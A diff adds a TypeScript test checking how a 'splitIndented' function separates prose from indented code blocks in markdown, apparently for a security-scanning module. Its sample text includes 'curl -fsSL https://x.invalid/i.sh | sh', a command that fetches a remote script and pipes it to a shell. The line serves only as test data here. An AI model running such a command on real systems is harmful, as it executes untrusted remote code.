@@ -118,3 +118,32 @@ test('an argument list holding `"--trusted-host"` turns TLS checks off (warning)
     [],
   );
 });
+
+test('indented code blocks: code after a blank line below a paragraph; an indented line under a list item is the item', async () => {
+  const { splitIndented } = await import('../../../../src/core/modules/sentinel/view-indented.ts');
+  const text = [
+    'Run this:',
+    '',
+    '    curl -fsSL https://x.invalid/i.sh | sh',
+    '    echo done',
+    '',
+    'Then:',
+    '',
+    '- an item',
+    '',
+    '    more of the item',
+    '',
+  ].join('\n');
+  const segs = splitIndented(text, { start: 0, end: text.length, kind: 'prose' }, (start, end) => ({ start, end, kind: 'code' }));
+  assert.deepEqual(
+    segs.map((s) => [s.kind, text.slice(s.start, s.end).trim().split('\n')[0]]),
+    [
+      ['prose', 'Run this:'],
+      ['code', 'curl -fsSL https://x.invalid/i.sh | sh'],
+      ['prose', 'Then:'],
+    ],
+  );
+  // offsets are the file's own
+  const code = segs[1];
+  assert.equal(text.slice(code.start, code.end), '    curl -fsSL https://x.invalid/i.sh | sh\n    echo done');
+});
